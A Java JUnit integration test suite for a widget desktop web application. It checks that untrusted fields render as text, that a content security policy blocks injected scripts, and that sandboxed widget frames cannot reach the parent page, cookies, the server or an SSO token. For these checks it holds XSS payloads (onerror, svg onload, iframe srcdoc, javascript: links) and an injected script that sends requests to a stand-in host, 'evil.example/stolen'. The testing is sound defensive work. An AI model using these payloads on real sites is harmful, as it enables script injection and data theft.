package io.widgetry.integration.browser;

import static org.junit.Assert.assertEquals;
import static org.junit.Assert.assertFalse;

import io.widgetry.integration.process.LaunchedRuntime;
import io.widgetry.integration.support.Await;
import io.widgetry.integration.support.Lines;
import java.util.List;
import java.util.Map;
import org.junit.Before;
import org.junit.ClassRule;
import org.junit.Rule;
import org.junit.Test;
import org.junit.rules.RuleChain;
import org.junit.rules.TestRule;

/** What comes from outside is text in our pages, and never markup; frames reach nothing but themselves. */
public class MarkupTest {
    private static final WebRuntime RUNTIME =
            WebRuntime.silent().configured("io.widgetry.core", "{\"tokenGrants\":[\"browser.granted\"]}");
    private static final Browser BROWSER = new Browser();
    private static final String TOKEN = "not-a-real-token";

    /** What there is of hostile elements in the document, and whether any of their scripts has run. */
    private static final String HARM = """
            const found = window.__pwned === undefined ? [] : ['ran: ' + window.__pwned];
            const isHarm = each => each.matches('.pwned, [src=nowhere], script:not([src]), iframe[srcdoc], base, object')
                || [...each.attributes].some(({name, value}) => /^on/i.test(name) || /^javascript:/i.test(value));
            const look = root => root.querySelectorAll('*').forEach(each => {
                isHarm(each) && found.push(each.outerHTML.slice(0, 200));
                each.shadowRoot && look(each.shadowRoot);
            });
            look(document);
            return found;
            """;

    /** Makes everything of what a widget may hand to the desktop. */
    private static final String HANDING = """
            customElements.define('handing-card', class extends HTMLElement {
                connectedCallback() {
                    const api = window.WS.widgetAPI(this.getAttribute('interactionid'));
                    const hostile = %s;
                    api.onDataEvent('go', () => {
                        api.sendNotification(hostile('notified'), 'error');
                        api.createCustomCard({id: hostile('id'), title: hostile('custom title'),
                            summary: hostile('summary'), state: hostile('state'), color: hostile('colour')});
                        api.createCustomStatePanel({id: 'p', name: hostile('panel'), ready: true});
                        api.insertMessageResponse(hostile('inserted'));
                        this.textContent = 'handed';
                    });
                }
            });
            """.formatted("name => name + " + quoted(hostile("")));

    /** Tries to reach beyond its frame, and shows what became of it. */
    private static final String REACHING = """
            const tries = {
                'the page': () => parent.document.title,
                'its storage': () => parent.localStorage.length,
                'its address': () => top.location.href,
                'another frame': () => parent.frames[0].document.title || parent.frames[1].document.title,
                'a cookie': () => Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').get.call(document),
                'a place in it': () => { parent.sameDocument = 'changed'; },
                'navigation': () => { top.location.href = 'about:blank'; },
                'code from text': () => new Function('return 1')()
            };
            customElements.define('reaching-card', class extends HTMLElement {
                async connectedCallback() {
                    for (const [name, reach] of Object.entries(tries)) {
                        let outcome;
                        try {
                            outcome = 'reached ' + reach();
                        } catch (refused) {
                            outcome = refused.name;
                        }
                        this.tell(name, outcome);
                    }
                    for (const path of ['/api/session', '/desktop/main.js']) {
                        const answer = fetch(path, {credentials: 'include'}).then(each => 'reached ' + each.status);
                        this.tell(path, await answer.catch(refused => refused.name));
                    }
                }
                tell(name, outcome) {
                    this.append(Object.assign(document.createElement('li'), {textContent: name + ': ' + outcome}));
                }
            });
            """;

    /** Shows all that it is told of the configuration. */
    private static final String CURIOUS = """
            customElements.define('curious-card', class extends HTMLElement {
                connectedCallback() {
                    const api = window.WS.widgetAPI(this.getAttribute('interactionid'));
                    const show = name => payload => this.append(Object.assign(document.createElement('li'),
                        {textContent: name + JSON.stringify([payload, api.getConfiguration()])}));
                    ['onSSOTokenRefreshEvent', 'onAgentStateEvent'].forEach(name => api.onDataEvent(name, show(name)));
                }
            });
            """;

    @ClassRule
    public static final TestRule CLASS = RuleChain.outerRule(RUNTIME).around(BROWSER);

    @Rule
    public final TestRule test = BROWSER;

    private Access agent;
    private String call;

    /** Markup in every form that runs something, behind a name to be found by. */
    private static String hostile(String name) {
        return name + "<b class=pwned>bold</b><img src=nowhere onerror='window.__pwned=1'>"
                + "<script>window.__pwned=2</script><svg onload='window.__pwned=3'></svg>"
                + "<iframe srcdoc='<script>parent.__pwned=4</script>'></iframe>"
                + "<a class=pwned href='javascript:window.__pwned=5'>here</a></textarea></title>";
    }

    private static String quoted(String text) {
        return "\"" + text.replace("/", "\\/") + "\"";
    }

    private static String hostileJson(String name) {
        return "\"" + hostile(name) + "\"";
    }

    @Before
    public void signIn() throws Exception {
        agent = RUNTIME.agent();
        call = "call-of-" + agent.agentId();
        RUNTIME.publish(Lines.agentState(agent.agentId(), "READY"), call("WEBCHAT"));
    }

    private String call(String channel) {
        return about(
                "onInteractionEvent",
                "{\"id\":\"" + call + "\",\"state\":\"ACTIVE\",\"channel\":\"" + channel + "\",\"title\":"
                        + hostileJson("title") + ",\"topic\":" + hostileJson("topic") + ",\"originatingAddress\":"
                        + hostileJson("address") + ",\"capabilities\":{\"canReply\":true,\"canSendMessage\":true}}");
    }

    private String about(String type, String data) {
        return Lines.about(type, agent.agentId(), call, data);
    }

    private String event(String type, String data) {
        return Lines.event(type, agent.agentId(), data);
    }

    private static String message(String channel) {
        return "{\"messageId\":\"m\",\"type\":\"" + channel + "\",\"subject\":" + hostileJson("subject") + ",\"body\":"
                + hostileJson("body") + ",\"receivedFrom\":{\"participantType\":\"CUSTOMER\",\"participantName\":"
                + hostileJson("name") + ",\"isSelf\":false}}";
    }

    private static void assertShown(String... texts) {
        for (String text : texts) {
            BROWSER.awaitScript(
                    text + " is shown", "return document.body.textContent.includes(arguments[0])", text + "<b class=");
        }
        assertHarmless();
    }

    private static void assertHarmless() {
        assertEquals(List.of(), BROWSER.script(HARM));
    }

    @Test
    public void whatCustomersAndSourcesSendIsTextInTheDesktop() throws Exception {
        Desktop desktop = Desktop.open(BROWSER, RUNTIME, agent);
        desktop.awaitCards(call);
        desktop.focus(call);
        RUNTIME.publish(
                about("onMediaMessageEvent", message("WEBCHAT")),
                about(
                        "onContextDataEvent",
                        "{\"customerDetails\":[{\"data\":{\"name\":" + hostileJson("customer")
                                + "}}],\"phrases\":[{\"data\":{\"name\":" + hostileJson("phrase") + ",\"text\":"
                                + hostileJson("phrased") + "}}]}"),
                about(
                        "onUserTypingEvent",
                        "{\"typing\":true,\"participant\":{\"participantName\":" + hostileJson("typist") + "}}"),
                event("onNavigationEvent", "{\"id\":" + hostileJson("page") + ",\"name\":" + hostileJson("page") + "}"),
                event("onTeamMemberEvent", "{\"id\":\"1\",\"displayName\":" + hostileJson("colleague") + "}"),
                event("onRequestServicesEvent", "[{\"id\":\"1\",\"name\":" + hostileJson("service") + "}]"),
                event("onChannelStatusUpdateEvent", "{\"name\":" + hostileJson("channel") + ",\"ready\":true}"),
                event(
                        "onAgentStateEvent",
                        "{\"currentState\":\"NOT_READY\",\"reasonCode\":" + hostileJson("reason") + ",\"reason\":"
                                + hostileJson("reason") + "}"));

        assertShown("title", "topic");
        BROWSER.awaitCount("[data-testid=message-text]", 1);
        assertHarmless();
        desktop.openHome();
        BROWSER.click("[data-testid=agent-button]");
        BROWSER.awaitCount("[data-testid=agent-menu]", 1);
        assertHarmless();
    }

    @Test
    public void theHtmlOfAnEMailIsReadForItsText() throws Exception {
        RUNTIME.publish(call("EMAIL"), about("onMediaMessageEvent", message("EMAIL")));
        Desktop desktop = Desktop.open(BROWSER, RUNTIME, agent);
        desktop.awaitCards(call);
        desktop.focus(call);
        RUNTIME.publish(about("onMediaMessageEvent", message("EMAIL").replace("\"m\"", "\"n\"")));

        Await.until(
                () -> "the text of the e-mail: " + BROWSER.texts("[data-testid=mail-text]"),
                () -> BROWSER.texts("[data-testid=mail-text]").stream().anyMatch(each -> each.startsWith("bodybold")));
        assertFalse(BROWSER.texts("[data-testid=mail-text]").toString().contains("__pwned"));
        assertShown("subject", "title");
    }

    @Test
    public void whatWidgetsShowAndHandToTheDesktopIsText() throws Exception {
        for (String sample : List.of("caller-card.jar", "transcript.jar")) {
            RUNTIME.deploy(LaunchedRuntime.distribution().resolve("samples/" + sample), sample);
        }
        RUNTIME.deploy(BrowserWidgets.zip("handing-card", "1.0.0", HANDING), "handing.zip");
        Desktop desktop = Desktop.open(BROWSER, RUNTIME, agent);
        desktop.awaitCards(call);
        desktop.focus(call);
        desktop.awaitWidget("browser.handing", call);
        RUNTIME.publish(about("onMediaMessageEvent", message("WEBCHAT")), about("go", "null"));

        desktop.awaitInside("browser.handing", call, "handing-card", "handed");
        assertShown("notified", "custom title", "summary", "state", "title", "body");
        BROWSER.awaitScript(
                "views show it",
                "return [...document.querySelectorAll('[data-testid=view]')]"
                        + ".filter(each => each.textContent.includes('<b class=pwned>')).length >= 1");
        BROWSER.click("[data-testid=agent-button]");
        assertShown("panel");
        desktop.inside("browser.handing", call, () -> BROWSER.script("return document.title")); // it is alive
    }

    @Test
    public void namesAndReportsAreTextForOperators() throws Exception {
        String strange = "agent" + agent.agentId() + "<b class=pwned>bold</b><img src=nowhere onerror='__pwned=1'>";
        RUNTIME.publish(
                Lines.agentState(strange, "READY"),
                Lines.call(strange, hostile("interaction"), "ACTIVE"),
                Lines.event("strange<b class=pwned>event</b>", agent.agentId(), "1"));
        RUNTIME.deploy(BrowserWidgets.zip("plain", Map.of("Plain card", strange)), "named.zip");
        Http.Answer reported = RUNTIME.http(agent)
                .post(
                        "/api/agents/" + agent.agentId() + "/reports",
                        "{\"widgetId\":\"browser.named\",\"interactionId\":null,\"kind\":\"error\",\"text\":"
                                + hostileJson("report") + "}");
        assertEquals(reported.toString(), 204, reported.status());
        BROWSER.open(RUNTIME.link(Access.OPERATOR));
        BROWSER.awaitCount("[data-testid=connection][data-state=live]", 1);

        for (String section :
                List.of("overview", "widgets", "browser", "deployments", "events", "agents", "grants", "health")) {
            BROWSER.click("[data-testid=nav-" + section + "]");
            BROWSER.awaitCount("[data-testid=section-" + section + "]:not([hidden])", 1);
            switch (section) {
                case "browser" -> {
                    BROWSER.click("[data-widget-id='browser.named'] [data-testid=reports-open]");
                    assertShown("report");
                    BROWSER.click("[data-testid=browser-widget-detail] [data-testid=dialog-close]");
                }
                case "events" -> assertShown("strange");
                case "agents" -> assertShown("agent" + agent.agentId(), "interaction");
                default -> assertHarmless();
            }
        }
        BROWSER.screenshot("operations-with-hostile-names");
    }

    @Test
    public void anInjectedScriptIsBlockedInEveryPage() throws Exception {
        for (String page : List.of("/login/", "/desktop/", "/operations/")) {
            if (page.equals("/desktop/")) {
                Desktop.open(BROWSER, RUNTIME, Access.FIRST);
            }
            BROWSER.open(RUNTIME.address() + page);
            BROWSER.awaitScript(
                    page + " is loaded",
                    "return location.pathname === arguments[0] && document.readyState === 'complete'",
                    page);
            BROWSER.script("""
                    window.blocked = [];
                    addEventListener('securitypolicyviolation', each => window.blocked.push(each.effectiveDirective));
                    const script = (text, src) => {
                        const element = document.createElement('script');
                        text && (element.textContent = text);
                        src && (element.src = src);
                        document.body.append(element);
                    };
                    script('window.__pwned = 1');
                    script('', 'data:text/javascript,window.__pwned=2');
                    script('', location.origin.replace('localhost', '127.0.0.1') + '/common/dom.js');
                    const markup = document.createElement('p');
                    markup.innerHTML = '<img src=nowhere onerror="window.__pwned=3">';
                    document.body.append(markup);
                    fetch('http://evil.example/').catch(() => {});
                    new Image().src = 'http://evil.example/stolen';
                    """);
            BROWSER.awaitScript(
                    "all of it is blocked",
                    "return ['script-src-elem', 'script-src-attr', 'connect-src', 'img-src']"
                            + ".every(each => window.blocked.includes(each))"
                            + " && window.blocked.filter(each => each === 'script-src-elem').length === 3");
            assertEquals(page, true, BROWSER.script("return window.__pwned === undefined"));
            assertEquals(page, "", BROWSER.script("return document.cookie"));
        }
    }

    @Test
    public void aFrameReachesNeitherThePageNorTheServer() throws Exception {
        RUNTIME.deploy(BrowserWidgets.zip("reaching-card", "1.0.0", REACHING), "reaching.zip");
        Desktop desktop = Desktop.open(BROWSER, RUNTIME, agent);
        desktop.awaitCards(call);
        desktop.focus(call);

        desktop.awaitInside(
                "browser.reaching",
                call,
                "li",
                "the page: SecurityError",
                "its storage: SecurityError",
                "its address: SecurityError",
                "another frame: SecurityError",
                "a cookie: SecurityError",
                "a place in it: SecurityError",
                "navigation: SecurityError",
                "code from text: EvalError",
                "/api/session: TypeError",
                "/desktop/main.js: TypeError");
        assertEquals(true, desktop.isSameDocument());
    }

    @Test
    public void rule20_theTokenIsInTheGrantedFrameOnly() throws Exception {
        RUNTIME.deploy(BrowserWidgets.zip("curious-card", "1.0.0", CURIOUS), "granted.zip");
        RUNTIME.deploy(BrowserWidgets.zip("curious-card", "1.0.0", CURIOUS), "curious.zip");
        RUNTIME.publish(event("onSSOTokenRefreshEvent", "{\"token\":\"" + TOKEN + "\"}"));
        Desktop desktop = Desktop.open(BROWSER, RUNTIME, agent);
        desktop.awaitCards(call);
        desktop.focus(call);

        awaitContains(desktop, "browser.granted", TOKEN);
        RUNTIME.publish(
                event("onSSOTokenRefreshEvent", "{\"token\":\"" + TOKEN + "-2\"}"),
                Lines.agentState(agent.agentId(), "NOT_READY"));
        awaitContains(desktop, "browser.granted", TOKEN + "-2");
        awaitContains(desktop, "browser.curious", "NOT_READY");

        String curious = desktop.inside(
                        "browser.curious", call, () -> BROWSER.script("return document.documentElement.outerHTML"))
                .toString();
        assertFalse(curious, curious.contains(TOKEN));
        String page = BROWSER.script("return document.documentElement.outerHTML + JSON.stringify(sessionStorage)"
                        + " + JSON.stringify(localStorage)")
                .toString();
        assertFalse(page.contains(TOKEN));
    }

    private void awaitContains(Desktop desktop, String widget, String text) {
        Await.until(
                () -> text + " in " + widget + ": " + desktop.textsInside(widget, call, "li"),
                () -> desktop.textsInside(widget, call, "li").toString().contains(text));
    }
}
